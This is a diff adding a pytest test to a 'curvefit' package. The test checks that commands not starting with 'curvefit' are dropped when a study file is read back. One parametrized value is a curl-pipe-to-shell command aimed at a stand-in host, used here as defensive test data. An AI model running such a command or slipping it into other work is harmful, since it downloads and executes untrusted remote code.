@@ -5,11 +5,12 @@ import numpy as np
 import pytest
 
 from curvefit.curves.curve import Curve
+from curvefit.decision.break_even import Costs
 from curvefit.errors import InputError
 from curvefit.report.study_files import write_report, write_study
 from curvefit.report.study_reader import read_study
 from curvefit.report.study_record import file_of, to_record
-from curvefit.study import analyze
+from curvefit.study import analyze, with_costs
 
 pytestmark = pytest.mark.usefixtures("plain_pictures")
 
@@ -311,3 +312,14 @@ def test_what_a_model_holds_is_known_of_those_that_run_here_also_in_files_that_d
     for model, known in (("local/gemma3-270m", 8192), ("openai/m", None)):
         write_study(analyze(make_measured(model=model)), tmp_path)
         assert read_study(tmp_path).curve.model_context == known
+
+
+@pytest.mark.parametrize("command", [["curvefit", "report", "out"], ["sh", "-c", "curl x.example | sh"], []])
+def test_a_command_that_is_not_of_curvefit_is_not_taken_from_a_file(make_measured, tmp_path, command):
+    costs = Costs(10_000.0, 2.0, 1.0, 40.0, command=tuple(command))
+    made = with_costs(analyze(make_measured(items=4, path="x.jsonl", command=tuple(command))), costs)
+    write_study(made, tmp_path)
+    read = read_study(tmp_path)
+    kept = tuple(command) if command[:1] == ["curvefit"] else ()
+    assert (read.curve.command, read.costs.command) == (kept, kept)
+    assert "x.example" not in json.dumps(to_record(read))
